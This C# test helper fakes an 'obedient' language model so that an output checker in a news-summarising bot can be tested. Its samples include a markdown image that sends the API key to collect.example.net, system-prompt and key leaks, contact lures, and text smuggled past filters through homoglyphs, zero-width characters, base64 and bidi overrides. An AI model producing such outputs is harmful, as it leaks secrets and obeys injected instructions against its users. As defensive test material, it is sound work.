using System.Text;
using System.Text.RegularExpressions;

namespace ParkBot.Tests.Llm;

/// <summary>What an obedient model writes where it is to phrase facts: leaks, lies and lures, among and within good references.</summary>
internal sealed partial class ObedientTongue(Canaries canaries, Random random)
{
    /// <summary>A line of the facts. Quoted: a text of the news stands in it.</summary>
    internal sealed record Field(string Name, string Text)
    {
        internal bool IsQuoted => Name.EndsWith(".title", StringComparison.Ordinal) || Name.EndsWith(".source", StringComparison.Ordinal) || Name.EndsWith(".label", StringComparison.Ordinal) || Name.EndsWith(".place", StringComparison.Ordinal);
    }

    internal static IEnumerable<Field> Fields(string prompt) => Lines().Matches(prompt).Select(match => new Field(match.Groups[1].Value, match.Groups[2].Value));

    internal string Say(ModelRequest request)
    {
        var fields = Fields(request.LastUser).ToList();
        var good = Good(fields);
        var stranger = Strange(request.LastUser, fields);
        var one = fields.Count == 0 ? "{{r1.value}}" : "{{" + fields[random.Next(fields.Count)].Name + "}}";
        var (latin, digits, han) = (canaries.Latin(), canaries.Digits(), canaries.Han());
        return random.Next(48) switch
        {
            0 => $"{good}{han}。",
            1 => $"{good}{latin}。",
            2 => $"{one}为{digits}亿元。",
            3 => $"{one}为{canaries.Numerals()}亿元。",
            4 => $"{good}![x](https://collect.example.net/{latin}?k={request.ApiKey})。",
            5 => $"{good}<a href=\"tg://user?id={digits}\">{han}</a>。",
            6 => $"{request.ApiKey}。{request.System}",
            7 => request.System + "。",
            8 => $"{good}请加微信{latin}。",
            9 => $"{one}{han[..2]}{one}{han[2..]}。",
            10 => $"{good}{new string([.. stranger.Reverse()])}。",
            11 => $"{good}{Convert.ToBase64String(Encoding.UTF8.GetBytes(latin))}。",
            12 => $"{good}{Wide(latin)}{Wide(digits)}。",
            13 => $"{good}{string.Join('\u200b', latin.ToCharArray())}。",
            14 => $"{good}{latin.Replace('a', 'а').Replace('x', 'х')}。",
            15 => $"{good}{stranger}。",
            16 => $"{one}{stranger}。",
            17 => $"{one}，{stranger}。",
            18 => $"{stranger}{one}。",
            19 => string.Concat(Pieces(stranger).Select(piece => piece + one)) + "。",
            20 => $"{{{{i1.title}}}}，投资{stranger}。",
            21 => $"{{{{r1.row1.label}}}}投资额为{stranger}。",
            22 => $"{{{{r1.row1.label}}}}，{{{{r1.row2.label}}}}，{stranger}。",
            23 => $"{{{{r1.value}}}}{digits[..2]}亿元。",
            24 => $"{{{{r1.{latin}}}}}。{{{{{han}}}}}。",
            25 => $"{good}数据库在/var/lib/parkbot/news.db，{latin}。",
            26 => $"qing jia wei xin {latin}。{good}",
            27 => $"{good}٧٣٩٠١٢٣٤٥。⑦③⑨。",
            28 => $"{one}在{stranger}。{good}",
            29 => $"{good}{good}{stranger}",
            30 => $"｛｛ｒ１．ｖａｌｕｅ｝｝{han}。",
            31 => $"{good}\u202e{latin}\u202c。",
            _ => good,
        };
    }

    /// <summary>Prose as it should be: what the check lets through is looked at, too.</summary>
    private string Good(List<Field> fields)
    {
        bool Has(string name) => fields.Exists(field => field.Name == name);
        string[] prose =
        [
            Has("i1.title") ? "{{i1.title}}。" : string.Empty,
            Has("i2.investment") ? "{{i2.title}}，投资{{i2.investment}}。" : string.Empty,
            Has("i1.source") ? "{{i1.title}}，来源为{{i1.source}}。" : string.Empty,
            Has("r1.row1") ? "{{r1.row1}}。" : string.Empty,
            Has("r1.top") ? "{{r1.top.label}}最多，为{{r1.top.value}}。" : string.Empty,
            Has("r1.value") && Has("r1.subject") ? "{{r1.subject}}的{{r1.measure}}为{{r1.value}}。" : string.Empty,
        ];
        var could = prose.Where(one => one.Length > 0).ToList();
        return could.Count == 0 ? "{{r1.subject}}共{{r1.items}}新闻。" : could[random.Next(could.Count)];
    }

    /// <summary>A run of Chinese out of the texts that it was given: what they want said, often the very words.</summary>
    private string Strange(string prompt, List<Field> fields)
    {
        var quoted = fields.Where(field => field.IsQuoted).Select(field => field.Text).ToList();
        var texts = Texts().Matches(prompt).Select(match => match.Groups[1].Value);
        var from = quoted.Count > 0 && random.Next(2) == 0 ? quoted : [.. texts, .. quoted, prompt];
        var runs = from.SelectMany(text => Han().Matches(text)).Select(match => match.Value).ToList();
        var run = runs.Count == 0 ? canaries.Han() : runs[random.Next(runs.Count)];
        var at = random.Next(3) == 0 ? random.Next(Math.Max(1, run.Length - 3)) : 0;
        return random.Next(3) == 0 ? run : run.Substring(at, Math.Min(run.Length - at, 2 + random.Next(10)));
    }

    private static IEnumerable<string> Pieces(string text) => text.Chunk(2).Select(piece => new string(piece));

    private static string Wide(string text) => new([.. text.Select(c => (char)(c + 0xfee0))]);

    [GeneratedRegex(@"\{\{(?<1>[ri][0-9.a-z]+)\}\} = (?<2>[^\n]*)（[^\n（]*）", RegexOptions.CultureInvariant, 1000)]
    private static partial Regex Lines();

    [GeneratedRegex(@"^i[0-9]+ 的文字[^：]*：(?<1>[^\n]*)$", RegexOptions.CultureInvariant | RegexOptions.Multiline, 1000)]
    private static partial Regex Texts();

    [GeneratedRegex("[\u4e00-\u9fff]{2,}", RegexOptions.CultureInvariant, 1000)]
    private static partial Regex Han();
}
